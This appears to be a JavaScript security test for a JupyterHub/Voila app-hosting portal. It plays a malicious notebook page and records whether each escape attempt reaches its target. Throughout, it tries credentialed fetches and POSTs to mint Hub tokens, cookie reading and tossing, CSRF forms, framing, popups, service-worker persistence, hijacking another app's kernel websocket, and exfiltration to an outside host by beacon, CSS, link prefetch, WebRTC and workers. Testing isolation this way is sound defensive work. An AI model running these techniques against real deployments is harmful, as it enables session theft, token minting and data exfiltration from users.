// What a malicious notebook's page tries. Each attempt leaves a word in window.results: REACHED when it got somewhere.
(async () => {
  const { portal, origin, victim, otherApp, otherKernel, outside, udp, mark, planted } = TARGETS;
  const results = {};
  const refused = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const soon = (promise, ms = 4000) => Promise.race([promise, wait(ms).then(() => "nothing came")]);
  const base = document.body.dataset.baseUrl.replace(/voila\/$/, "");

  async function attempt(name, what) {
    try {
      results[name] = String(await soon(what(), 12000));
    } catch (error) {
      results[name] = `refused: ${error.name}`;
    }
  }
  async function any(tries) {
    for (const one of tries) {
      try {
        const found = await soon(one());
        if (String(found).startsWith("REACHED")) return found;
      } catch { /* the next one */ }
    }
    return "refused";
  }
  const addresses = [portal, `${portal}api/me`, `${portal}api/apps`, `${origin}/hub/home`, `${origin}/hub/token`, `${origin}/hub/api/user`];
  const add = (html, to = document.body) => {
    const holder = document.createElement("div");
    holder.innerHTML = html;
    return to.appendChild(holder.firstElementChild);
  };
  const reading = (url, how) => async () => `REACHED ${(await fetch(url, how)).type}`;
  const opening = (url) => () => new Promise((done, failed) => {
    const socket = new WebSocket(url.replace(/^http/, "ws"));
    socket.onopen = () => done("REACHED a socket");
    socket.onerror = () => failed(new Error("socket"));
  });
  const popup = (url) => async () => {
    const opened = window.open(url);
    await wait(1500);
    try {
      return opened.document.body.innerHTML.length > 50 && opened.location.href !== "about:blank" ? "REACHED its text" : "empty";
    } catch (error) {
      return opened && !opened.closed ? "REACHED a handle" : error.name;
    } finally {
      opened?.close();
    }
  };
  const frame = (url) => async () => {
    const shown = add(`<iframe src="${url}" style="width:300px;height:100px"></iframe>`);
    await wait(1200);
    return shown.contentDocument?.body?.innerText ? "REACHED its text" : "empty";
  };
  const fields = (form) => `<input name="_xsrf" value="x"><input name="note" value="${mark}"><input name="title" value="${mark}">`;
  const posting = (action, target = "_self", within = document) => async () => {
    const before = refused.length;
    const form = within.createElement("form");
    Object.assign(form, { action, method: "post", target, innerHTML: fields() });
    within.body.append(form);
    form.submit();
    await wait(400);
    return refused.slice(before).includes("form-action") ? "refused" : "REACHED";
  };

  // ---- the portal and the Hub
  await attempt("fetch", () => any(addresses.map((url) => reading(url, { credentials: "include" }))));
  await attempt("fetch without reading", () => any(addresses.map((url) => reading(url, { credentials: "include", mode: "no-cors" }))));
  await attempt("fetch from a worker", async () => {
    const code = `fetch("${portal}", {mode: "no-cors", credentials: "include"}).then(() => postMessage("REACHED"), () => postMessage("refused"))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    return new Promise((done) => { worker.onmessage = (event) => done(event.data); worker.onerror = () => done("refused"); });
  });
  await attempt("a token by fetch", () => any([
    reading(`${origin}/hub/api/users/${victim}/tokens`, { method: "POST", credentials: "include", mode: "no-cors", body: `{"note": "${mark}"}` }),
    reading(`${portal}api/uploads`, { method: "POST", credentials: "include", mode: "no-cors", body: "{}" }),
  ]));
  await attempt("cookies", async () => {
    const seen = document.cookie + JSON.stringify((await window.cookieStore?.getAll()) ?? []);
    return /visit|hub|session|service|_xsrf/.test(seen) ? "REACHED" : "none";
  });
  await attempt("a popup of the Hub", () => any([popup(`${origin}/hub/home`), popup(`${origin}/hub/token`)]));
  await attempt("a popup of the portal", () => any([popup(portal), popup(`${portal}logout`)]));
  await attempt("a frame of the Hub", () => any([frame(`${origin}/hub/home`), frame(`${origin}/hub/token`)]));
  await attempt("a frame of the portal", () => any([frame(portal), frame(`${portal}files/`)]));
  await attempt("a form to the Hub", () => any([
    posting(`${origin}/hub/api/users/${victim}/tokens`, "nowhere"), posting(`${origin}/hub/login`, "_blank"), posting(`${origin}/hub/logout`, "_blank"),
  ]));
  await attempt("a form to the portal", () => any([
    posting(`${portal}stores/`, "_blank"), posting(`${portal}upload`, "nowhere"), posting(`${portal}logout`, "_blank"), posting(`${portal}drafts/`, "_blank"),
  ]));
  await attempt("a form from a frame of one's own", async () => {
    const inner = add("<iframe></iframe>").contentWindow;
    let said = "REACHED";
    inner.document.addEventListener("securitypolicyviolation", () => { said = "refused"; });
    await posting(`${portal}stores/`, "_blank", inner.document)();
    return said;
  });
  await attempt("a form from a window of one's own", async () => {
    const inner = window.open("about:blank");
    let said = "REACHED";
    inner.document.addEventListener("securitypolicyviolation", () => { said = "refused"; });
    await posting(`${portal}stores/`, "_self", inner.document)();
    inner.close();
    return said;
  });
  await attempt("a picture of the sign-out", async () => {
    const picture = new Image();
    picture.src = `${origin}/hub/logout`;
    await wait(800);
    return "tried";
  });
  await attempt("a window of the sign-out", async () => {
    for (const url of [`${origin}/hub/logout`, `${portal}logout`]) {
      const opened = window.open(url);
      await wait(1200);
      opened?.close();
    }
    return "tried";
  });
  await attempt("a window that is opened by us", async () => {
    add(`<a id="to-portal" target="_blank" rel="opener" href="${portal}?by-opener">x</a>`).click();
    await wait(1500);
    return "tried";
  });

  // ---- what stays behind
  await attempt("a service worker", () => any(
    [...new Set(performance.getEntriesByType("resource").map((entry) => entry.name).filter((url) => url.startsWith(location.origin) && /\.js(\?|$)/.test(url))),
      `${base}voila/static/voila.js`, `${base}voila/templates/vaas/static/vaas.js`, "/services/vaas/static/js/menu.js",
      URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })), "data:text/javascript,1"].flatMap((url) => [undefined, { scope: "/" }].map((scope) => async () => {
      await navigator.serviceWorker.register(url, scope);
      return `REACHED ${url}`;
    })),
  ));
  await attempt("storage of others", async () => {
    const seen = [JSON.stringify({ ...localStorage, ...sessionStorage }), JSON.stringify(await indexedDB.databases()), JSON.stringify(await caches.keys())];
    return seen.join().includes(planted) ? "REACHED" : "none";
  });
  await attempt("cookies for others", async () => {
    const names = ["vaas-visit", "vaas-visit-v1", "service-vaas", "jupyterhub-hub-login", "jupyterhub-session-id", "vaas-links", "vaas-notice", "_xsrf"];
    const domain = origin.split("//")[1].split(":")[0];
    const other = new URL(otherApp);
    for (const name of names.flatMap((one) => [one, `__Host-${one}`, `__host-${one}`, `__Secure-${one}`])) {
      for (const path of ["/", "/hub/", "/hub/login", "/services/vaas/", other.pathname]) {
        for (const secure of ["", "; secure"]) document.cookie = `${name}=${mark}; domain=${domain}; path=${path}${secure}`;
      }
    }
    document.cookie = `=__Host-vaas-visit-v1=${mark}; domain=${domain}; path=/; secure`;
    return /__Host-/i.test(document.cookie) ? "REACHED" : "none with the prefix";
  });

  // ---- another app of the same visitor
  await attempt("fetch of another app", () => any([reading(otherApp, { credentials: "include" }), reading(otherApp, { credentials: "include", mode: "no-cors" })]));
  await attempt("a frame of another app", () => any([frame(otherApp)]));
  await attempt("a popup of another app", () => any([popup(otherApp)]));
  await attempt("a form to another app", () => any([posting(`${otherApp}visit`, "_blank"), posting(`${otherApp}vaas/farewell`, "_blank")]));
  await attempt("a websocket of another app", () => any([
    opening(`${otherApp}api/kernels/${otherKernel}/channels`), opening(`${location.origin}${base}api/kernels/${otherKernel}/channels`),
  ]));
  await attempt("a websocket of the portal", () => any([opening(portal), opening(`${origin}/hub/api/`)]));

  // ---- somewhere outside: what arrives is counted there
  const out = (name) => `${outside}/${encodeURIComponent(name)}`;
  await attempt("outside by fetch", () => any([reading(out("fetch")), reading(out("no-cors"), { mode: "no-cors" }), reading(out("keepalive"), { mode: "no-cors", keepalive: true })]));
  await attempt("outside by beacon", async () => { navigator.sendBeacon(out("beacon"), mark); await wait(300); return "tried"; });
  await attempt("outside by websocket", () => any([opening(out("websocket"))]));
  await attempt("outside by event stream", () => new Promise((done) => {
    const stream = new EventSource(out("events"));
    stream.onopen = () => done("REACHED");
    stream.onerror = () => done("refused");
  }));
  await attempt("outside by picture", async () => { new Image().src = out("picture"); await wait(300); return "tried"; });
  await attempt("outside by style", async () => {
    add(`<style>#stolen { background: url(${out("css")}) } @import url(${out("import")}); @font-face { font-family: x; src: url(${out("font")}) } #stolen { font-family: x }</style>`);
    add(`<link rel="stylesheet" href="${out("sheet")}">`, document.head);
    await wait(300);
    return "tried";
  });
  await attempt("outside by link", async () => {
    for (const rel of ["prefetch", "preload", "modulepreload", "prerender", "icon", "manifest"]) add(`<link rel="${rel}" as="script" href="${out(rel)}">`, document.head);
    add(`<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${out("speculation")}"]}]}<\/script>`, document.head);
    await wait(500);
    return "tried";
  });
  await attempt("outside by script", () => any([async () => { await import(out("import.js")); return "REACHED"; }, async () => { importScripts(out("importScripts")); return "REACHED"; }]));
  await attempt("outside by form", () => any([posting(out("form"), "_blank")]));
  await attempt("outside by frame", () => any([frame(out("frame"))]));
  await attempt("outside by media", async () => { add(`<video src="${out("video")}" autoplay></video>`); add(`<object data="${out("object")}"></object>`); add(`<embed src="${out("embed")}">`); await wait(500); return "tried"; });
  await attempt("outside by a worker", async () => {
    const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${out("worker")}", {mode: "no-cors"}).then(() => postMessage("REACHED"), () => postMessage("refused"))`])));
    return new Promise((done) => { worker.onmessage = (event) => done(event.data); worker.onerror = () => done("refused"); });
  });
  await attempt("outside by webrtc", async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    peer.createDataChannel(mark);
    await peer.setLocalDescription(await peer.createOffer());
    await wait(1500);
    return "tried";
  });
  window.results = results;
  document.getElementById("stolen").textContent = JSON.stringify(results);
})();
